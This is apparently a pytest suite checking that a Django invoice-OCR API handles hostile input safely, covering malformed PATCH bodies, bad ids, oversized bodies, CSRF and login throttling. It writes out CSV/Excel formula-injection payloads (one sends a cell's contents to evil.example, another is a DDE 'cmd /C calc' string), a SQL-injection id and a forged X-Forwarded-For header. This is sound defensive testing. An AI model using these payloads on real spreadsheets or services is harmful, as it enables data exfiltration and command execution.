"""Hostile and careless clients: unrouted paths, bad ids, PATCH bodies out of shape, oversized input.
Each answer is the one error body `{"code", "message"}` with a stable code, and nothing stored changes."""

from __future__ import annotations

import pytest

from django_api.invoices.models import Document, DocumentResult, FieldCorrection
from django_api.invoices.services.projects import project_member_set
from django_api.invoices.services.uploads import invoice_upload
from django_api.orchestration.django_port import DjangoPort
from tests.django_api.conftest import client_for, png_bytes, upload

pytestmark = pytest.mark.django_db


@pytest.fixture
def processed(project, processed_document):
    task, document = processed_document
    return {"p": project.pk, "t": task, "d": document}


@pytest.mark.parametrize(
    "path",
    [
        "/api/projects/null/",
        "/api/projects/-1/tasks/",
        "/api/projects/1/documents/x/pages/0.5/image/",
        "/api/projects/1/documents/x/pages/-1/image/",
        "/api/nothing-here/",
        "/not-api/",
    ],
)
def test_unrouted_paths_answer_the_json_error_body(alice_client, path):
    response = alice_client.get(path)
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"code": "not_found", "message": "Not found."}


def _document_state(document_id):
    result = DocumentResult.objects.get(document_id=document_id)
    document = Document.objects.get(pk=document_id)
    return (
        result.fields,
        result.line_items,
        result.corrected_fields,
        result.corrected_line_items,
        document.status,
        FieldCorrection.objects.count(),
    )


@pytest.mark.parametrize(
    ("body", "bad_key"),
    [
        ({"bogus": 1}, "bogus"),
        ({"fields": {"total": "1.00"}, "approve": True}, "approve"),
        ({"fields": {"total": "x" * 2001}}, "fields"),
        ({"fields": {"total": {"a": 1}}}, "fields"),
        ({"fields": {"total": ["1"]}}, "fields"),
        ({"fields": None}, "fields"),
        ({"fields": "total"}, "fields"),
        ({"line_items": [{"amount": {"x": [1]}}]}, "line_items"),
        ({"line_items": [{"amount": ["1"]}]}, "line_items"),
        ({"line_items": [{"description": "y" * 2001}]}, "line_items"),
        ({"line_items": [{"amount": "1"}] * 1001}, "line_items"),
        ({"line_items": "abc"}, "line_items"),
        ({"line_items": [None]}, "line_items"),
    ],
    ids=lambda v: v if isinstance(v, str) else str(v)[:40],
)
def test_patch_out_of_shape_is_400_and_changes_nothing(alice_client, processed, body, bad_key):
    before = _document_state(processed["d"])
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/fields/"
    response = alice_client.patch(path, body, format="json")
    assert response.status_code == 400, response.content[:300]
    assert response.json()["code"] == "validation_error"
    assert bad_key in response.json()["detail"]
    assert _document_state(processed["d"]) == before


def test_patch_at_the_limits_is_stored(alice_client, processed):
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/fields/"
    body = {"fields": {"vendor_name": "v" * 2000, "total": 12.5}, "line_items": [{"amount": 3}] * 1000}
    response = alice_client.patch(path, body, format="json")
    assert response.status_code == 200, response.content[:300]
    detail = response.json()
    assert detail["fields"]["vendor_name"]["value"] == "v" * 2000
    assert detail["fields"]["total"]["value"] == "12.5"
    assert len(detail["line_items"]) == 1000 and detail["line_items"][0] == {"amount": "3"}


def test_approving_twice_keeps_the_first_approval(alice_client, processed, project, bob):
    project_member_set(project=project, user=bob, role="reviewer")
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/approve/"
    first = alice_client.post(path)
    second = client_for(bob).post(path)
    assert first.status_code == second.status_code == 200
    assert second.json()["approved_by"] == "alice"
    assert second.json()["approved_at"] == first.json()["approved_at"]
    assert Document.objects.get(pk=processed["d"]).status == "approved"


def test_cancel_twice_and_after_the_end(alice_client, project, run_on_commit, processed):
    """A finished task answers 409 every time; its documents and results stay as they were."""
    path = f"/api/projects/{processed['p']}/ocr-cancel/{processed['t']}/"
    before = _document_state(processed["d"])
    for _ in range(2):
        response = alice_client.post(path)
        assert (response.status_code, response.json()["code"]) == (409, "task_finished")
    assert _document_state(processed["d"]) == before


def test_patch_as_a_form_is_415_not_a_silent_no_op(alice_client, processed):
    before = _document_state(processed["d"])
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/fields/"
    multipart = alice_client.patch(path, {"fields": '{"total": "1.00"}'}, format="multipart")
    form = alice_client.patch(
        path, "fields=%7B%22total%22%3A+%221%22%7D", content_type="application/x-www-form-urlencoded"
    )
    for response in (multipart, form):
        assert (response.status_code, response.json()["code"]) == (415, "unsupported_media_type")
    assert _document_state(processed["d"]) == before


@pytest.mark.parametrize("value", [True, False, 0, 12.5, ["x"], {"x": 1}])
def test_project_name_must_be_a_string(alice_client, value):
    response = alice_client.post("/api/projects/", {"name": value}, format="json")
    assert (response.status_code, response.json()["code"]) == (400, "validation_error")
    assert "name" in response.json()["detail"]
    assert alice_client.get("/api/projects/").json() == []


def test_patch_boolean_value_is_400(alice_client, processed):
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/fields/"
    response = alice_client.patch(path, {"fields": {"total": True}}, format="json")
    assert response.status_code == 400 and "fields" in response.json()["detail"]


def test_empty_list_filters_mean_no_filter(alice_client, processed):
    path = f"/api/projects/{processed['p']}/documents/?status=&vendor=&date_from=&date_to="
    response = alice_client.get(path)
    assert response.status_code == 200 and [d["id"] for d in response.json()] == [processed["d"]]


def test_oversized_json_body_is_413_and_uploads_are_not_bounded_by_it(
    alice_client, processed, project, settings, run_on_commit
):
    before = _document_state(processed["d"])
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 100_000
    path = f"/api/projects/{processed['p']}/documents/{processed['d']}/fields/"
    body = {"line_items": [{"description": "d" * 1000}] * 200}  # ~200 kB of JSON, each value valid
    response = alice_client.patch(path, body, format="json")
    assert (response.status_code, response.json()["code"]) == (413, "request_too_large")
    assert _document_state(processed["d"]) == before
    big_file = png_bytes(3, size=(800, 800)) + b"\x00" * 200_000  # files do not count against it
    upload_response = run_on_commit(
        alice_client.post,
        f"/api/projects/{project.pk}/process-invoices/",
        {"files": [upload("big.png", big_file)]},
        format="multipart",
    )
    assert upload_response.status_code == 202, upload_response.content[:300]


def test_public_health_does_not_spawn_tesseract_on_every_call(anon_client, monkeypatch):
    import pytesseract

    from django_api.invoices import health

    calls = []
    real = pytesseract.get_tesseract_version
    monkeypatch.setattr(health, "_tesseract_cache", {})
    monkeypatch.setattr(pytesseract, "get_tesseract_version", lambda: calls.append(1) or real())
    bodies = [anon_client.get("/api/ocr-health/").json() for _ in range(5)]
    assert len(calls) == 1
    assert all(b["checks"]["tesseract"]["version"].startswith("5.") for b in bodies)
    assert all(b["checks"]["database"]["ok"] for b in bodies)  # the other checks stay live


@pytest.mark.parametrize("big", [2**31, 2**63, 10**25])
def test_out_of_range_ids_are_404(alice_client, processed, big):
    p, t, d = processed["p"], processed["t"], processed["d"]
    for path in (
        f"/api/projects/{big}/",
        f"/api/projects/{big}/ocr-status/{t}/",
        f"/api/projects/{big}/documents/{d}/pages/0/image/",
        f"/api/projects/{p}/documents/{d}/pages/{big}/image/",
    ):
        response = alice_client.get(path)
        assert (response.status_code, response.json()["code"]) == (404, "not_found"), path


def test_other_spellings_of_a_uuid_reach_the_same_task_only(alice_client, bob_client, processed):
    p, t = processed["p"], processed["t"]
    for spelling in (t.upper(), t.replace("-", ""), "{" + t + "}"):
        assert alice_client.get(f"/api/projects/{p}/ocr-status/{spelling}/").json()["task_id"] == t
        assert bob_client.get(f"/api/projects/{p}/ocr-status/{spelling}/").status_code == 404


def test_cancelling_a_queued_task_ends_its_documents(alice_client, project, settings):
    """They stayed `pending` forever: never processed, and refused for correction (409) for good."""
    settings.OCR_EXECUTOR = "none"  # the task stays queued
    body = alice_client.post(
        f"/api/projects/{project.pk}/process-invoices/",
        {"files": [upload("q.png", png_bytes(1))]},
        format="multipart",
    ).json()
    response = alice_client.post(f"/api/projects/{project.pk}/ocr-cancel/{body['task_id']}/")
    assert (response.status_code, response.json()["status"]) == (202, "cancelled")
    document = alice_client.get(f"/api/projects/{project.pk}/documents/{body['documents'][0]['id']}/").json()
    assert document["status"] == "failed" and document["error"]["code"] == "cancelled"


def test_recovery_ends_the_documents_of_a_task_left_cancelling(alice, project):
    from django_api.invoices.models import OcrTask
    from django_api.invoices.services.recovery import tasks_recover_interrupted

    task = invoice_upload(user=alice, project=project, files=[upload("c.png", png_bytes(1))]).task
    DjangoPort().mark_running(str(task.id), flow_run_id=None)
    OcrTask.objects.filter(pk=task.pk).update(status="cancelling")
    tasks_recover_interrupted(max_attempts=3)
    assert OcrTask.objects.get(pk=task.pk).status == "cancelled"
    assert list(Document.objects.filter(task=task).values_list("status", "error_code")) == [
        ("failed", "cancelled")
    ]


def test_page_image_of_a_file_lost_from_storage_is_503_not_500(alice_client, processed):
    from django.core.files.storage import default_storage

    document = Document.objects.get(pk=processed["d"])
    default_storage.delete(document.file.name)
    response = alice_client.get(f"/api/projects/{processed['p']}/documents/{processed['d']}/pages/0/image/")
    assert (response.status_code, response.json()["code"]) == (503, "storage_error")
    assert "a.png" in response.json()["message"]


HOSTILE_CELLS = {
    "vendor_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "customer_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "invoice_number": "+1+1",
    "total": "-12.50",
}


def test_exports_never_turn_text_into_formulas(alice_client, processed):
    import csv
    import io

    from openpyxl import load_workbook

    p, t, d = processed["p"], processed["t"], processed["d"]
    path = f"/api/projects/{p}/documents/{d}/fields/"
    body = {"fields": HOSTILE_CELLS, "line_items": [{"description": "=1+1", "amount": "-3.00"}]}
    assert alice_client.patch(path, body, format="json").status_code == 200
    documents = list(
        csv.DictReader(
            io.StringIO(alice_client.get(f"/api/projects/{p}/export/?format=csv").content.decode())
        )
    )
    assert documents[0]["vendor_name"] == "'" + HOSTILE_CELLS["vendor_name"]
    assert documents[0]["customer_name"] == "'" + HOSTILE_CELLS["customer_name"]
    assert documents[0]["invoice_number"] == "'+1+1"
    assert documents[0]["total"] == "-12.50"  # a number stays a number
    items = alice_client.get(
        f"/api/projects/{p}/ocr-download/{t}/?format=csv&table=line_items"
    ).content.decode()
    assert next(csv.DictReader(io.StringIO(items)))["description"] == "'=1+1"
    workbook = load_workbook(io.BytesIO(alice_client.get(f"/api/projects/{p}/export/?format=xlsx").content))
    cells = [
        c for sheet in workbook for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None
    ]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert HOSTILE_CELLS["vendor_name"] in values and "=1+1" in values  # kept verbatim, as text
    exported = alice_client.get(f"/api/projects/{p}/export/?format=json").json()
    assert exported[0]["fields"]["vendor_name"] == HOSTILE_CELLS["vendor_name"]  # JSON is data: unchanged


def test_session_write_without_csrf_token_says_why(alice):
    from rest_framework.test import APIClient

    client = APIClient(enforce_csrf_checks=True)
    client.force_login(alice)
    response = client.post("/api/projects/", {"name": "x"}, format="json")
    assert (response.status_code, response.json()["code"]) == (403, "permission_denied")
    assert "CSRF" in response.json()["message"]
    assert client.get("/api/projects/").json() == []


@pytest.mark.parametrize("bad", ["not-a-uuid", "1", "%00", "%27%20OR%201%3D1%20--", "9" * 300, "%E2%80%AE"])
def test_ids_that_are_not_uuids_are_404_everywhere(alice_client, processed, bad):
    p, t, d = processed["p"], processed["t"], processed["d"]
    paths = [
        *(f"/api/projects/{p}/{name}/{bad}/" for name in ("ocr-status", "ocr-validation", "ocr-anomalies")),
        f"/api/projects/{p}/ocr-check-task/{bad}/",
        f"/api/projects/{p}/ocr-download/{bad}/?format=csv",
        f"/api/projects/{p}/documents/{bad}/",
        f"/api/projects/{p}/documents/{bad}/pages/0/image/",
    ]
    for path in paths:
        response = alice_client.get(path)
        assert (response.status_code, response.json()["code"]) == (404, "not_found"), path
    for response in (
        alice_client.post(f"/api/projects/{p}/ocr-cancel/{bad}/"),
        alice_client.post(f"/api/projects/{p}/documents/{bad}/approve/"),
        alice_client.patch(f"/api/projects/{p}/documents/{bad}/fields/", {"fields": {}}, format="json"),
    ):
        assert (response.status_code, response.json()["code"]) == (404, "not_found")
    assert alice_client.get(f"/api/projects/{p}/ocr-status/{t}/").status_code == 200
    assert alice_client.get(f"/api/projects/{p}/documents/{d}/").status_code == 200


def test_project_languages_longer_than_the_column_are_400(alice_client):
    languages = "+".join(["eng"] * 30)  # matches the pattern, 119 characters: the column holds 100
    response = alice_client.post("/api/projects/", {"name": "x", "languages": languages}, format="json")
    assert (response.status_code, response.json()["code"]) == (400, "validation_error")
    assert "languages" in response.json()["detail"]
    ok = alice_client.post("/api/projects/", {"name": "x", "languages": "eng+deu"}, format="json")
    assert ok.status_code == 201


def test_token_login_is_throttled_per_client(anon_client, alice, monkeypatch):
    from django.core.cache import cache
    from rest_framework.throttling import ScopedRateThrottle

    cache.clear()
    # DRF reads the rates once, at import: the test suite's settings allow 10,000/min
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"login": "3/min"})
    answers = [
        anon_client.post("/api/auth/token/", {"username": "alice", "password": "wrong"}, format="json")
        for _ in range(4)
    ]
    cache.clear()
    assert [a.status_code for a in answers] == [400, 400, 400, 429]
    assert answers[-1].json()["code"] == "throttled" and answers[-1].json()["message"]


def test_a_forged_x_forwarded_for_does_not_reset_the_login_throttle(anon_client, alice, monkeypatch):
    from django.core.cache import cache
    from rest_framework.throttling import ScopedRateThrottle

    cache.clear()
    monkeypatch.setattr(ScopedRateThrottle, "THROTTLE_RATES", {"login": "3/min"})
    answers = [
        anon_client.post(
            "/api/auth/token/",
            {"username": "alice", "password": "wrong" if i < 4 else "alice-pw-123"},
            format="json",
            HTTP_X_FORWARDED_FOR=f"203.0.113.{i}",  # a new "client" every attempt
        )
        for i in range(5)
    ]
    cache.clear()
    assert [a.status_code for a in answers] == [400, 400, 400, 429, 429]  # the right password too
